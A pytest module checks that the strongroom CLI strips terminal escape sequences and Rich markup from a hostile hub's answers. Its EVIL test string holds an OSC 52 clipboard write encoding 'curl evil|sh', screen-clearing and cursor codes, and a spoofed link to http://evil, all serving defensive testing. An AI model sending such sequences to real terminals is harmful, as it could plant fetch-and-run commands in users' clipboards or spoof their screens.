"""What a hub's answers can put on the researcher's terminal: only text.

A hostile or compromised hub — or any member who names a project, a dataset, a file or themselves — must not be
able to drive the user's terminal through the CLI: no escape sequences (OSC 52 clipboard writes, OSC 8 links,
clearing the screen, cursor moves over earlier lines), no BEL, no one-byte C1 CSI, and no Rich markup
(``[link=…]``, ``[blink]``). Every name, title, path, member and problem-document detail goes through
``text.for_terminal`` (``client``, ``archive.cli``, ``compute.cli``, ``workspaces.cli``).

The hub here is a real HTTP server on loopback answering crafted JSON (the attacker, not a stand-in for our code);
the CLI runs as the user runs it, in its own process, its output read from the pipe.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest

# An OSC 52 clipboard write, a clear-screen, Rich markup (a link, blinking text), a one-byte C1 CSI, BEL, DEL, CR
EVIL = ("\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J[link=http://evil]x[/link]\x9b31m[blink]b[/blink]"
        "\x1b]8;;http://evil\x1b\\here\x1b]8;;\x1b\\\x7f\r\x1b[1A")
MARKUP = ("[link=http://evil]x[/link]", "[blink]b[/blink]")
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # C0 (but tab and newline), DEL, C1


class HostileHub:
    """Answers ``answer(method, path)`` — (status, JSON body) — for every request."""

    def __init__(self, answer: Callable[[str, str], tuple[int, Any]]) -> None:
        self.answer = answer

    @contextmanager
    def serving(self) -> Iterator[str]:
        hub = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def _reply(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                self.rfile.read(length)
                status, found = hub.answer(self.command, unquote(urlsplit(self.path).path))
                body = json.dumps(found).encode()
                self.send_response(status)
                self.send_header("content-type", "application/json" if status < 400 else "application/problem+json")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_DELETE = _reply

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}"
        finally:
            server.shutdown()
            server.server_close()
            thread.join(10)


PROBLEM = {"type": "about:blank", "title": EVIL, "status": 403, "detail": f"refused {EVIL}"}
PROJECT = {"slug": f"p{EVIL}", "name": EVIL, "project_class": EVIL, "role": EVIL, "end_date": EVIL,
           "ethics_ref": EVIL, "pi": {"display_name": EVIL}}
BOOKING = {"id": 7, "kind": EVIL, "machine": EVIL, "gpus": 2, "gpu_indices": EVIL,
           "start_at": "2026-01-05T09:00:00+00:00", "end_at": "2026-01-12T09:00:00+00:00", "state": EVIL,
           "reservation_name": EVIL, "reservation_state": EVIL, "over_budget": False}
ANSWERS: dict[tuple[str, str], Any] = {
    ("GET", "/api/v1/me"): {"display_name": EVIL, "email": EVIL, "subject": EVIL, "via": EVIL, "scopes": [EVIL]},
    ("GET", "/api/v1/projects"): [PROJECT],
    ("GET", "/api/v1/projects/p1"): PROJECT,
    ("GET", "/api/v1/projects/p1/members"): [{"user": {"display_name": EVIL}, "role": EVIL, "rights": [EVIL]}],
    ("GET", "/api/v1/projects/p1/settings"): [{"key": EVIL, "locked": False, "value": EVIL}],
    ("POST", "/api/v1/projects/p1/members"): {"user": {"display_name": EVIL}, "role": EVIL},
    ("GET", "/api/v1/projects/p1/datasets"): [{"id": EVIL, "title": EVIL, "owner_project": EVIL,
                                               "versions": [{"number": 1, "state": EVIL}]}],
    ("GET", "/api/v1/datasets/SRD-EVIL"): {"id": "SRD-EVIL", "versions": [{"number": 1, "state": "released"}]},
    ("GET", "/api/v1/datasets/SRD-EVIL/versions/1/files"): {
        "files": [{"id": f"SRF-{EVIL}", "path": EVIL, "plaintext_size": 3, "plaintext_sha256": EVIL}],
        "next_after": None},
    ("POST", "/api/v1/datasets/SRD-EVIL/versions/1/release"): {"number": 1, "state": EVIL, "file_count": EVIL},
    ("GET", "/api/v1/me/keys"): [{"fingerprint": EVIL, "name": EVIL, "created_at": EVIL, "revoked_at": None}],
    ("GET", "/api/v1/compute/projects/p1/bookings"): [BOOKING],
    ("POST", "/api/v1/compute/projects/p1/bookings"): {**BOOKING, "cluster_note": EVIL,
                                                       "without_cluster_account": [EVIL]},
    ("GET", "/api/v1/compute/projects/p1/calendar"): [{
        "machine": EVIL, "gpus": 1, "days": ["2026-01-05"], "free": [EVIL],
        "rows": [[{"label": EVIL, "over_budget": True}]]}],
    ("GET", "/api/v1/compute/projects/p1/budget"): {
        "klass": EVIL, "budget": 4.0, "period_start": EVIL, "period_end": EVIL, "used": 1.0, "remaining": 3.0,
        "past": 0.5, "over": False},
    ("POST", "/api/v1/compute/drift"): {"configured": True, "created": [EVIL], "updated": [], "deleted": [],
                                        "failed": {EVIL: EVIL}},
    ("GET", "/api/v1/workspaces/projects/p1"): [{"id": EVIL, "state": EVIL, "launcher": EVIL, "isolation": EVIL,
                                                 "ends_at": EVIL, "url": EVIL}],
}


def hostile_answer(method: str, path: str) -> tuple[int, Any]:
    found = ANSWERS.get((method, path))
    return (200, found) if found is not None else (403, PROBLEM)  # anything else: a hostile problem document


@pytest.fixture(scope="module")
def hub() -> Iterator[str]:
    with HostileHub(hostile_answer).serving() as url:
        yield url


@pytest.fixture
def strongroom(hub: str, tmp_path: Path) -> Callable[..., subprocess.CompletedProcess[str]]:
    """`strongroom ARGS` in its own process against the hostile hub; stdout and stderr as text (surrogates kept
    apart from real C1 characters: decoded as UTF-8, what the terminal would get)."""
    env = {k: v for k, v in os.environ.items()
           if not k.startswith("STRONGROOM_") and k not in ("FORCE_COLOR", "TTY_COMPATIBLE", "CLICOLOR_FORCE")}
    src = Path(__file__).resolve().parents[1] / "src"
    env |= {"STRONGROOM_URL": hub, "STRONGROOM_TOKEN": "sr_abcdefabcdef_secret", "COLUMNS": "1000",
            "STRONGROOM_CLI_CONFIG": str(tmp_path / "cli.json"), "XDG_CACHE_HOME": str(tmp_path / "cache"),
            "PYTHONPATH": os.pathsep.join(filter(None, (str(src), env.get("PYTHONPATH")))), "PYTHONIOENCODING": "utf-8"}

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "strongroom.cli", *args], env=env, capture_output=True,
                              encoding="utf-8", errors="strict", timeout=120, cwd=tmp_path)

    return run


def assert_only_text(done: subprocess.CompletedProcess[str], *, expect_markup: bool = True) -> None:
    """No terminal control in what the CLI wrote (either stream), and the hub's markup shown as it was sent."""
    for stream in (done.stdout, done.stderr):
        assert not FORBIDDEN.findall(stream), repr(stream)
    if expect_markup:
        shown = done.stdout + done.stderr
        for literal in MARKUP:
            assert literal in shown, shown


LISTINGS = [
    ("whoami",),
    ("projects", "list"),
    ("projects", "show", "p1"),
    ("projects", "add-member", "p1", "someone"),
    ("datasets", "list", "-p", "p1"),
    ("datasets", "files", "SRD-EVIL"),
    ("datasets", "release", "SRD-EVIL"),
    ("keys", "list"),
    ("compute", "list", "-p", "p1"),
    ("compute", "book", "-p", "p1", "--machine", "m", "--gpus", "1"),
    ("compute", "calendar", "-p", "p1"),
    ("compute", "budget", "-p", "p1"),
    ("compute", "drift"),
    ("workspaces", "list", "-p", "p1"),
]


@pytest.mark.parametrize("args", LISTINGS, ids=" ".join)
def test_hub_names_reach_the_terminal_as_text(strongroom, args):
    """Every name, title, path and member a hub sends prints as its visible characters, markup literally."""
    done = strongroom(*args)
    assert_only_text(done)
    assert "]52;c;Y3VybCBldmlsfHNo" in done.stdout + done.stderr  # what is left of the attempt stays visible


ERRORS = [
    ("projects", "show", "other"),
    ("datasets", "list", "-p", "other"),
    ("datasets", "files", "SRD-OTHER"),
    ("datasets", "create", "-p", "p1", "--title", "t", "SRF-1"),
    ("keys", "register", __file__),
    ("compute", "cancel", "-p", "p1", "3"),
    ("workspaces", "list", "-p", "other"),
    ("download", "SRF-1", "--out", "."),
]


@pytest.mark.parametrize("args", ERRORS, ids=" ".join)
def test_a_hostile_problem_document_is_printed_as_text(strongroom, args):
    """The error printer: a problem document's detail (the hub's words) is shown, not obeyed; the exit is 1."""
    done = strongroom(*args)
    assert done.returncode == 1, done.stderr
    assert "refused" in done.stderr
    assert_only_text(done)


def test_download_progress_and_failures_show_the_hubs_ids_as_text(strongroom):
    """`strongroom download` of a dataset: the hub's file ids become progress descriptions and failure lines."""
    done = strongroom("download", "SRD-EVIL", "--out", ".")
    assert done.returncode == 1
    assert "SRF-" in done.stderr and "refused" in done.stderr
    assert_only_text(done)


def test_for_terminal_keeps_text_and_layout_it_is_asked_to():
    """The one function: controls out, markup escaped (Rich prints it back as written), names on one line."""
    from rich.console import Console

    from strongroom.text import for_terminal

    console = Console(width=200, color_system=None, force_terminal=False)
    with console.capture() as captured:
        console.print(for_terminal(EVIL) + "|" + for_terminal("a\nb\tc") + "|" + for_terminal(None) + "|"
                      + for_terminal("ends in \\") + "|" + for_terminal("p\u202eevil", multiline=True))
    out = captured.get()
    assert not FORBIDDEN.findall(out.rstrip("\n"))
    assert "[link=http://evil]x[/link]" in out and "[blink]b[/blink]" in out
    assert "|a b c||ends in \\" in out and "|pevil" in out  # a trailing backslash may show doubled: never eats a tag
    assert for_terminal("two\nlines\tand a tab", multiline=True) == "two\nlines\tand a tab"
    assert for_terminal("café — 名前 ✓") == "café — 名前 ✓"
